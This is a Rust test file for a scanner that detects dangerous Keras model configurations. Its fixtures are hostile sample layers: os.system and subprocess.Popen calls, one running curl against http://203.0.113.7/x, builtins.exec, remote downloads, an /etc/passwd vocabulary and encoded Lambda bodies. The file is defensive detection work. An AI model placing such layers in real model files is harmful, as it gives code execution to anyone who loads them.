//! The configuration as a whole: what each rule finds, and the near miss it leaves alone.

use crate::{Input, Outcome};
use bartizan_core::{Limits, MonotonicClock, Severity};
use proptest::prelude::*;
use serde_json::json;

fn scan(text: &str) -> Outcome {
    crate::scan(&Input::new("config.json", text.as_bytes()), &Limits::default(), &MonotonicClock::start())
}

fn worst(value: &serde_json::Value) -> Option<(&'static str, Severity)> {
    let outcome = scan(&value.to_string());
    assert_eq!(outcome.format, Some("keras-config"));
    outcome.findings.first().map(|finding| (finding.rule.id, finding.severity))
}

/// A sequential model with one layer.
fn model(layer: &serde_json::Value) -> serde_json::Value {
    json!({"class_name": "Sequential", "config": {"name": "m", "layers": [layer]}})
}

#[test]
fn a_model_of_builtin_layers_is_clean() {
    let dense = json!({"module": "keras.layers", "class_name": "Dense", "registered_name": null,
        "config": {"units": 1, "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
        "config": {"seed": null}, "registered_name": null}}});
    assert_eq!(worst(&model(&dense)), None);
}

#[test]
fn a_module_of_the_standard_library_is_named() {
    let layer = json!({"module": "os", "class_name": "system", "config": {"command": "id"}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-foreign-module", Severity::Critical)));
    let layer = json!({"class_name": "Dense", "config": {"fn_module": "helpers.payload"}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-foreign-module", Severity::High)));
}

#[test]
fn what_a_node_hands_to_a_function_is_part_of_the_verdict() {
    let layer = |module: &str, name: &str, given: serde_json::Value| {
        json!({"module": module, "class_name": "function", "config": name,
            "inbound_nodes": [{"args": given, "kwargs": {"bufsize": -1}}]})
    };
    let outcome =
        scan(&model(&layer("subprocess", "Popen", json!([["curl", "http://203.0.113.7/x"]]))).to_string());
    let worst = &outcome.findings[0];
    assert_eq!((worst.rule.id, worst.severity), ("model/keras-foreign-module", Severity::Critical));
    assert!(
        worst.message.contains("runs `curl`") && worst.message.contains("203.0.113.7"),
        "{}",
        worst.message
    );
    let harmless = layer("os", "system", json!(["true"]));
    assert_eq!(worst_of(&harmless), Some(Severity::Critical));
    let package = json!({"module": "my_package.io", "class_name": "fetch", "registered_name": "my_package>fetch",
        "config": {"source": "http://203.0.113.7/x"}});
    assert_eq!(worst_of(&package), Some(Severity::High));
    let layer = json!({"module": "my_package.io", "class_name": "Blend", "registered_name": "my_package>Blend",
        "config": {"source": "left"}});
    assert_eq!(worst_of(&layer), Some(Severity::Medium));
}

fn worst_of(layer: &serde_json::Value) -> Option<Severity> {
    worst(&model(layer)).map(|(_, severity)| severity)
}

#[test]
fn a_registered_class_of_a_package_is_only_remarked() {
    let layer = json!({"module": "my_package.layers", "class_name": "Blend", "config": {},
        "registered_name": "my_package>Blend"});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-custom-object", Severity::Medium)));
    let layer = json!({"class_name": "Blend", "config": {}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-custom-object", Severity::Low)));
}

#[test]
fn a_function_that_leaves_the_model_is_dangerous_and_an_activation_is_not() {
    let function = |module, name| {
        json!({"class_name": "Dense", "config": {"activation":
        {"module": module, "class_name": "function", "config": name, "registered_name": "function"}}})
    };
    let found = worst(&model(&function("keras.utils", "get_file")));
    assert_eq!(found, Some(("model/keras-dangerous-function", Severity::High)));
    for (module, name) in [
        ("keras.src.utils.python_utils", "func_load"),
        ("keras.saving", "deserialize_keras_object"),
        ("keras.src.backend.common.global_state", "set_global_attribute"),
    ] {
        let found = worst(&model(&function(module, name)));
        assert_eq!(found, Some(("model/keras-dangerous-function", Severity::High)), "{name}");
    }
    assert_eq!(worst(&model(&function("keras.activations", "relu"))), None);
    let found = worst(&model(&function("builtins", "exec")));
    assert_eq!(found.map(|found| found.1), Some(Severity::Critical));
    assert!(worst(&model(&function("builtins", "my_loss"))).is_none_or(|found| found.1 == Severity::Info));
}

#[test]
fn a_downloader_needs_an_address_in_the_same_object() {
    let layer = json!({"class_name": "Dense", "config": {"fn": "get_file", "url": "http://x.example/a"}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-dangerous-function", Severity::High)));
    let apart = json!({"class_name": "Model", "config": {"info": "see https://x.example/a",
        "layers": [{"class_name": "Dense", "config": {"fn": "get_file"}}]}});
    assert!(worst(&apart).is_none_or(|found| found.1 < Severity::High));
}

#[test]
fn safe_mode_is_not_switched_off_by_a_name_alone() {
    let layer = json!({"module": "keras.config", "class_name": "Dense",
        "config": {"fn": "enable_unsafe_deserialization"}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-dangerous-function", Severity::High)));
    let layer = json!({"class_name": "Dense", "config": {"fn": "enable_unsafe_deserialization"}});
    assert_eq!(worst(&model(&layer)), None);
}

#[test]
fn a_vocabulary_outside_the_model_is_found_and_a_list_is_not() {
    let layer = |vocabulary: serde_json::Value| json!({"class_name": "StringLookup", "config": {"vocabulary": vocabulary}});
    assert_eq!(
        worst(&model(&layer(json!("/etc/passwd")))),
        Some(("model/keras-external-file", Severity::High))
    );
    assert_eq!(worst(&model(&layer(json!(["a", "b"])))), None);
}

#[test]
fn a_lambda_with_a_body_is_dangerous_and_one_by_name_is_remarked() {
    let layer = json!({"class_name": "Lambda", "config": {"function": ["bGFtYmRhIHg6IHg=", null, null]}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-lambda", Severity::High)));
    let layer = json!({"class_name": "Lambda", "config": {"function": "scale", "function_type": "function"}});
    assert_eq!(worst(&model(&layer)), Some(("model/keras-lambda", Severity::Low)));
    let v3 = json!({"class_name": "Lambda", "config": {"function":
        {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": null, "closure": null}}}});
    assert_eq!(worst(&model(&v3)), Some(("model/keras-lambda", Severity::High)));
}

#[test]
fn a_torch_module_is_dangerous_wherever_it_nests() {
    let inner = model(&json!({"class_name": "TorchModuleWrapper", "config": {}}));
    assert_eq!(worst(&model(&inner)), Some(("model/keras-torch-module", Severity::High)));
}

#[test]
fn a_layer_of_one_tensorflow_function_is_judged_by_it() {
    let layer = |function| json!({"class_name": "TFOpLambda", "config": {"function": function}});
    assert_eq!(worst(&model(&layer("io.write_file"))).map(|found| found.1), Some(Severity::High));
    assert_eq!(worst(&model(&layer("math.add"))), None);
}

#[test]
fn duplicate_keys_imitated_names_and_broken_text_are_told() {
    let outcome = scan(r#"{"class_name": "Model", "config": {"name": "a", "name": "b"}}"#);
    assert_eq!(outcome.findings[0].rule.id, "model/keras-malformed-config");
    assert_eq!(
        worst(&model(&json!({"class_name": "lambda", "config": {}}))).map(|found| found.0),
        Some("model/keras-malformed-config")
    );
    let outcome = scan(
        r#"{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": "x()""#,
    );
    assert!(!outcome.gaps.is_empty());
    assert_eq!(outcome.findings[0].rule.id, "model/keras-lambda");
}

#[test]
fn an_escaped_key_and_a_wide_encoding_are_read_as_the_loader_reads_them() {
    let outcome = scan(r#"{"class\u005fname": "Lambda", "config": {"function": "f()"}}"#);
    assert_eq!(outcome.findings[0].rule.id, "model/keras-lambda");
    let wide: Vec<u8> = r#"{"class_name": "Lambda", "config": {"function": "f()"}}"#.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let outcome =
        crate::scan(&Input::new("config.json", &wide), &Limits::default(), &MonotonicClock::start());
    assert_eq!(outcome.format, Some("keras-config"));
}

#[test]
fn a_damaged_root_does_not_hide_the_layers_in_it() {
    let layer = json!({"class_name": "Lambda", "config": {"function": ["bGFtYmRhIHg6IHg=", null, null]}});
    let text = model(&layer).to_string();
    // A bit of each byte of the root's own keys.
    for key in ["\"class_name\":\"Seq", "\"config\":{"] {
        let start = text.find(key).unwrap();
        for at in start + 1..start + 7 {
            let mut damaged = text.clone().into_bytes();
            damaged[at] ^= 1;
            let outcome = crate::scan(
                &Input::new("config.json", &damaged),
                &Limits::default(),
                &MonotonicClock::start(),
            );
            let worst = outcome.findings.iter().map(|finding| finding.severity).max();
            assert!(worst >= Some(Severity::High), "{}: {worst:?}", String::from_utf8_lossy(&damaged));
        }
    }
}

#[test]
fn other_json_is_none_of_ours() {
    assert_ne!(scan(r#"{"model_type": "bert", "config": {"a": 1}}"#).format, Some("keras-config"));
}

proptest! {
    #[test]
    fn a_damaged_configuration_never_panics(at in 0usize..200, byte: u8, cut in 0usize..200) {
        let mut text = model(&json!({"class_name": "Lambda", "config": {"function": ["4wEAAAA=", null], "module": "os"}}))
            .to_string().into_bytes();
        let at = at % text.len();
        text[at] = byte;
        text.truncate(text.len() - cut % text.len());
        let _ = crate::scan(&Input::new("config.json", &text), &Limits::default(), &MonotonicClock::start());
    }
}
